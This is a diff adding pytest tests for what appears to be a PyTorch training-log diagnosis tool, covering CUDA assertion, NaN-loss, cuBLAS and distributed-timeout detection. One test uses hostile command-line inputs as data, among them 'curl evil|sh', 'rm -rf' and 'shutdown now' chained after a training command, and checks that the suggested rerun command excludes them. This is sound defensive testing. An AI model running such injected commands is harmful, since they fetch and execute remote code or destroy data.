@@ -7,6 +7,7 @@ import subprocess
 import sys
 from collections.abc import Callable
 from pathlib import Path
+from time import perf_counter
 
 import pytest
 from hypothesis import given, settings
@@ -44,6 +45,7 @@ CASES = [
     for index, example in enumerate(rule.examples)
 ]
 Run = Callable[..., Answer]
+BLOCKING = "CUDA_LAUNCH_BLOCKING=1 <your command>"
 
 
 def read(data: bytes | str, *signs: Sign) -> TrainLog:
@@ -167,6 +169,32 @@ def test_assertions_are_told_apart_by_their_kernel() -> None:
     assert (rule, commands[0]) == ("device-assert", "CUDA_LAUNCH_BLOCKING=1 <your command>")
 
 
+@pytest.mark.parametrize(
+    ("kernel", "said"),
+    [
+        ("Loss.cu:92: operator()", "input_val >= zero && input_val <= one"),
+        ("Indexing.cu:1237: indexSelectSmallIndex", "srcIndex < srcSelectDimSize"),
+        ("IndexKernel.cu:92: operator()", INDEX),
+        ("ScatterGatherKernel.cu:144: operator()", SCATTER),
+    ],
+)
+def test_another_assertion_is_not_one_of_cross_entropy(kernel: str, said: str) -> None:
+    error = "RuntimeError: CUDA error: device-side assert triggered"
+    for crash in (error, RAISED.format(error).replace("main()", "loss = criterion(out, y)") + ASYNCHRONOUS):
+        [(_, _, commands)] = found(f"{assertions(kernel, said)}{crash}\n")
+        assert not any("cross-entropy" in command for command in commands)
+
+
+def test_the_line_that_torch_2_8_adds_is_part_of_the_message() -> None:
+    new = RETINANET.replace("model/retinanet.py", "utils.py").replace("compute_loss", "reduce")
+    search = (
+        "torch.AcceleratorError: CUDA error: device-side assert triggered\nSearch for `cudaErrorAssert' in https://x\n"
+    )
+    new = new.replace("RuntimeError: CUDA error: device-side assert triggered\n", search)
+    [(rule, _, commands)] = found(new)
+    assert (rule, commands[1]) == ("index-out-of-bounds", "CUDA_LAUNCH_BLOCKING=1 <your command>")
+
+
 def test_where_the_frames_may_be_wrong_the_second_command_is_to_run_again() -> None:
     log = "$ torchrun --nproc_per_node 8 train.py --data coco\n" + RETINANET
     [(_, _, commands)] = found(log)
@@ -199,6 +227,13 @@ def test_the_frames_decide_whether_a_patch_is_meant() -> None:
     assert commands == ("patchkit check-data DATA --for torchvision",)
 
 
+def test_a_product_that_a_layer_of_torch_asks_for_is_not_the_decode_of_yolov10() -> None:
+    error = KNOWN["cublas-refused"].replace("cublasGemmEx", "cublasSgemv")
+    linear = RAISED.format(error).replace("train.py", "/v/lib/python3/site-packages/torch/nn/modules/linear.py")
+    [(rule, _, commands)] = found(linear)
+    assert (rule, commands[0]) == ("cublas-gemv-refused", "patchkit doctor")
+
+
 def test_commands_name_what_the_options_of_the_run_name() -> None:
     log = options(data="/data/my set/data.yaml", device="0,1") + assertions("ScatterGatherKernel.cu:1: f()", SCATTER)
     [(_, _, commands)] = found(log)
@@ -220,6 +255,49 @@ def test_commands_name_what_the_options_of_the_run_name() -> None:
     assert commands[0] == "patchkit check-data a.yaml --for ultralytics"
 
 
+@pytest.mark.parametrize(
+    ("line", "command"),
+    [
+        ("$ yolo train model=a.pt data=b.yaml 2>&1 | tee train.log", "yolo train model=a.pt data=b.yaml"),
+        ("+ nohup python train.py --epochs 64 > out.log &", "nohup python train.py --epochs 64"),
+        ("$ python train.py; rm -rf /tmp/x", "python train.py"),
+        ("$ python train.py && shutdown now", "python train.py"),
+        ('$ python train.py --name \'a; b\' --note "| \\"" > l', 'python train.py --name \'a; b\' --note "| \\""'),
+        ("$ python train.py `curl evil|sh`", "<your command>"),
+        ("$ python train.py --data $(cat data)", "<your command>"),
+        ("$ python train.py --name 'not closed", "<your command>"),
+        ("$ python main.py > train.log", "<your command>"),
+    ],
+)
+def test_the_command_to_run_again_neither_writes_over_the_log_nor_does_more(line: str, command: str) -> None:
+    [(_, _, commands)] = found(f"{line}\nRuntimeError: cuDNN error: CUDNN_STATUS_EXECUTION_FAILED\n")
+    assert commands[0] == f"CUDA_LAUNCH_BLOCKING=1 {command}"
+
+
+@pytest.mark.parametrize(
+    "warning",
+    [
+        "/v/torch/nn/modules/conv.py:456: UserWarning: Plan failed with a cudnnException: CUDNN_BACKEND_EXECUTION_PLAN_"
+        "DESCRIPTOR: cudnnFinalizeDescriptor Failed cudnn_status: CUDNN_STATUS_NOT_SUPPORTED (Triggered internally at",
+        "UserWarning: Exception encountered: CUDNN_STATUS_EXECUTION_FAILED in benchmark, trying next",
+        "[W] CUBLAS_STATUS_NOT_SUPPORTED when calling cublasLtMatmul with transpose_mat1 0, will attempt to recover by",
+    ],
+)
+def test_what_torch_warns_of_and_goes_on_from_is_no_failure(warning: str) -> None:
+    assert rules(f"{warning}\n{ROW.format('1.4')}\n") == []
+    [(rule, _, commands)] = found(f"{warning}\n" * 30 + cublas("/home/me/yolov10"))
+    assert (rule, commands[0]) == ("cublas-gemv-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")
+
+
+@pytest.mark.parametrize("error", ["KeyboardInterrupt", "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to"])
+def test_what_else_stops_the_decode_of_yolov10_is_not_its_defect(error: str, told: Callable[..., Answer]) -> None:
+    crash = cublas("/home/me/yolov10").partition("RuntimeError")
+    assert told(crash[0] + error + "\n").code == 0
+    gemm = "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasGemmStridedBatchedEx(handle, op)`"
+    [(rule, _, commands)] = found(crash[0] + gemm + "\n")
+    assert (rule, commands[0]) == ("cublas-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")
+
+
 def test_each_of_several_runs_in_one_log_has_its_options() -> None:
     log = options(data="first.yaml") + ROW.format("1.2") + "\n" + options(data="second.yaml") + ROW.format("nan") + "\n"
     [(_, _, commands)] = found(log)
@@ -239,6 +317,8 @@ def test_each_of_several_runs_in_one_log_has_its_options() -> None:
         ("mmdet - INFO - Epoch [1][50/58633]\tlr: 1e-3, loss_rpn_bbox: nan, loss: nan", "from the first epoch"),
         ("Epoch 7:  6%| | 32040/500150 [6:28<94:39, loss=nan, v_num=95]", "the loss is nan since epoch 8"),
         ("[ Train | 001/080 ] loss = nan, acc = 0.09091", "the loss is nan since line 1"),
+        (ROW.format("nan").replace("1/100", "0/299"), "the loss is nan from the first epoch"),
+        ("12/100 [==>...] - ETA: 1s - loss: nan - accuracy: 0.1", "the loss is nan since line 1"),
         ("Loss is nan, stopping training", "the loss is nan since line 1"),
         ("{'loss': tensor(nan, device='cuda:0')}", "the loss is nan since line 1"),
         ("FloatingPointError: Loss became infinite or NaN at iteration=3!", "the loss is nan since line 1"),
@@ -246,6 +326,28 @@ def test_each_of_several_runs_in_one_log_has_its_options() -> None:
 )
 def test_a_loss_that_is_nan_is_told_with_its_epoch(line: str, message: str, told: Callable[..., Answer]) -> None:
     assert message in told(line + "\n").out
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "check_nan: loss is nan? False",
+        "if loss is nan, training stops",
+        "best_loss: nan",
+        "prev_loss=nan",
+        "lr_loss=nan",
+        "val/dfl_loss: nan (no validation set)",
+    ],
+)
+def test_a_word_about_nan_is_no_loss_that_is_nan(line: str) -> None:
+    assert rules(line + "\n") == []
+    assert rules(f"{line}\n" * 30 + "loss: nan best_loss: nan\n") == ["loss-nan"]
+
+
+def test_an_index_in_a_loss_of_ones_own_says_nothing_of_labels() -> None:
+    error = RAISED.format("IndexError: index 7 is out of bounds for dimension 0 with size 7")
+    assert rules(error.replace("<module>", "compute_loss")) == []
+    assert rules(error.replace("<module>", "compute_loss").replace("train.py", "fcos.py")) == ["index-out-of-bounds"]
 
 
 def test_an_ignored_learning_rate_is_a_note_unless_it_was_set() -> None:
@@ -269,6 +371,18 @@ def test_a_timeout_is_told_apart_by_what_the_others_did() -> None:
     assert rules(scan + "Starting training for 100 epochs...\n" + watchdog) == ["ddp-timeout"]
     waiting = RAISED.format("KeyboardInterrupt").replace("main()", "with torch_distributed_zero_first(rank):")
     assert rules(waiting + watchdog) == ["ddp-timeout-while-scanning"]
+    done = scan + "train: Scanning /data/labels... 100 images, 0 backgrounds: 100%\n"
+    assert rules(done + watchdog) == ["ddp-timeout"]
+    assert rules(waiting + "Starting training for 100 epochs...\n" + watchdog) == ["ddp-timeout"]
+    assert rules(options() + waiting + options(data="other.yaml") + watchdog) == ["ddp-timeout"]
+    store = (
+        "torch.distributed.DistBackendError: [1] is setting up NCCL communicator and retrieving ncclUniqueId from [0] "
+        "via c10d key-value store by key '0', but store->get('0') got error: Socket Timeout"
+    )
+    assert rules(waiting.replace("KeyboardInterrupt", store)) == ["ddp-timeout-while-scanning"]
+    assert rules(RAISED.format(store)) == ["ddp-timeout"]
+    gloo = "RuntimeError: [unbound_buffer.cc:81] Timed out waiting 1800000ms for recv operation to complete"
+    assert rules(RAISED.format(gloo)) == ["ddp-timeout"]
     assert rules("RuntimeError: Timed out initializing process group in store based barrier on rank: 1\n") == [
         "ddp-timeout"
     ]
@@ -363,6 +477,19 @@ def test_stdin_and_what_cannot_be_read(patchkit: Run, tmp_path: Path) -> None:
         assert f"patchkit: {path}: " in answer.err
         assert "hint: " in answer.err
     assert patchkit("diagnose").code == 2
+    closed = [
+        sys.executable,
+        "-c",
+        "import os, sys; os.close(0); os.execv(sys.executable, [sys.executable, *sys.argv[1:]])",
+    ]
+    done = subprocess.run([*closed, "-m", "patchkit", "diagnose", "-"], capture_output=True, text=True, check=False)
+    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "patchkit: <stdin>: it is closed")
+
+
+def test_a_log_that_is_named_twice_is_told_once(patchkit: Run, tmp_path: Path) -> None:
+    log = tmp_path / "train.log"
+    log.write_text(cublas("/x"))
+    assert patchkit("diagnose", log, log).out == patchkit("diagnose", log).out
 
 
 def test_rules_and_patches_can_be_chosen(told: Callable[..., Answer]) -> None:
@@ -384,6 +511,7 @@ def test_a_note_alone_does_not_fail(told: Callable[..., Answer]) -> None:
     answer = told(line)
     assert answer.code == 0
     assert "note [lr0-ignored]" in answer.out
+    assert "\notherwise no known failure in " in answer.out
     assert told(line, "--fail-on", "note").code == 1
 
 
@@ -440,6 +568,23 @@ def test_a_log_of_one_endless_line_is_read_in_bounded_memory() -> None:
     assert done.stdout == "50000000 0 True\n", done.stderr
 
 
+@pytest.mark.parametrize(
+    ("text", "count"),
+    [
+        ("Traceback (most recent call last) ", 20_000),
+        ("Traceback (most recent call last)\n", 60_000),
+        ("loss: nan ", 500_000),
+        ("Assertion ", 500_000),
+        ("CUBLAS_STATUS_", 500_000),
+        ("mode=train, a=1, ", 100_000),
+    ],
+)
+def test_what_is_looked_for_may_stand_in_a_log_any_number_of_times(text: str, count: int) -> None:
+    started = perf_counter()
+    rules(text * count)
+    assert perf_counter() - started < 20
+
+
 def test_a_failure_in_an_endless_line_is_found() -> None:
     error = "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasSgemv(handle)`"
     assert rules("x" * 3_000_000 + error + "y" * 3_000_000) == ["cublas-gemv-refused"]
@@ -451,6 +596,12 @@ def test_a_log_of_powershell_is_read(encoding: str) -> None:
     text = f"{ROW.format('1.2')}\r\n" * 9000 + cublas("/x").replace("\n", "\r\n")
     assert rules(mark + text.encode(encoding)) == ["cublas-gemv-refused"]
     assert rules(mark + text.encode(encoding)[:-1]) == ["cublas-gemv-refused"]
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+def test_utf_16_is_read_without_its_mark(encoding: str) -> None:
+    for lead in ("", f"{ROW.format('1.2')}\r\n" * 9000):
+        assert rules((lead + cublas("/x")).encode(encoding)) == ["cublas-gemv-refused"]
 
 
 def test_a_binary_file_is_no_failure() -> None:
@@ -468,6 +619,46 @@ def test_many_lines_of_one_kind_are_kept_to_a_few() -> None:
 
 def test_words_that_hold_nan_do_not_hide_a_loss() -> None:
     assert rules("finance banana nanny loss 1.2\n" * 50_000 + ROW.format("nan") + "\n") == ["loss-nan"]
+
+
+@pytest.mark.parametrize(
+    "prefix",
+    [
+        "[rank0]:",
+        "[default0]:",
+        "[1,0]<stderr>:",
+        "0: ",
+        " 3: ",
+        "trainer-1  | ",
+        "2024-05-01T10:00:0{0}.12345{0}789Z ",
+        "2024-05-01 10:00:0{0},123 - ERROR - ",
+        "[2024-05-01 10:00:0{0}] ERROR: ",
+        "[pod/train-0/main] ",
+        "    ",
+        "> ",
+    ],
+)
+def test_what_stands_before_every_line_does_not_hide_a_traceback(prefix: str) -> None:
+    lines = [f"{prefix.format(number % 10)}{line}\n" for number, line in enumerate(RETINANET.splitlines())]
+    [(rule, _, commands)] = found("".join(lines))
+    assert (rule, commands[:2]) == (
+        "index-out-of-bounds",
+        ("patchkit apply retinanet-label-guard --path /workspace/ssd/model/retinanet.py", BLOCKING),
+    )
+
+
+def test_what_stands_before_the_head_alone_hides_no_traceback() -> None:
+    for before in ("ERROR: ", " 50%|###  | 3/6 ", "worker 1 died: "):
+        [raised] = read(before + RAISED.format("KeyError: 1")).raised
+        assert (raised.traceback.error, len(raised.traceback.frames)) == ("KeyError: 1", 1)
+
+
+@pytest.mark.parametrize("count", [1, 60])
+def test_other_tracebacks_do_not_hide_the_one_that_an_assertion_led_to(count: int) -> None:
+    other = RAISED.format("ConnectionError: retry").replace("train.py", "/v/lib/python3/site-packages/wandb/send.py")
+    assertion, _, crash = RETINANET.partition("Traceback")
+    [(_, _, commands)] = found(assertion + other * count + "Traceback" + crash + other * count)
+    assert commands[0] == "patchkit apply retinanet-label-guard --path /workspace/ssd/model/retinanet.py"
 
 
 def test_two_processes_that_print_at_once_are_told_apart() -> None:
@@ -642,7 +833,7 @@ def test_a_pack_brings_its_symptoms(pack: Pack, patchkit: Run, tmp_path: Path) -
         "    why: The border is halved twice.",
         "    1: AssertionError: mosaic border 321 is odd",
         "    run: patchkit apply third-mosaic",
-        f"no known failure in {log}",
+        f"otherwise no known failure in {log}",
         "it holds no traceback either",
         "0 errors, 0 warnings, 1 note",
     ]
